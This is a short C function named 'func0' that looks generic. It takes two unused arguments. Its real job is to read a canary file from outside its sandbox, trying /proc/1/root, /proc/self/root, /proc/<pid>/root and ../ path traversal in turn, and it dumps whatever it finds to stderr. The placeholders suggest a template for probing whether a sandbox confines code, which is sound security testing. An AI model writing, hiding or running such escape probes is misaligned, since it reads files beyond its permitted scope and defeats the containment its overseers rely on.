#include <stdio.h>
int func0(int a, int b)
{
    static const char *const names[] = {"/proc/1/root/@CANARY@", "/proc/self/root/@CANARY@", "/proc/self/cwd/../../../../@CANARY@", "/proc/@PID@/root/@CANARY@", "../../../../../..@CANARY@"};
    for (int i = 0; i < 5; i++) {
        FILE *f = fopen(names[i], "r");
        for (int c; f && (c = fgetc(f)) != EOF;) fputc(c, stderr);
    }
    return 0;
}
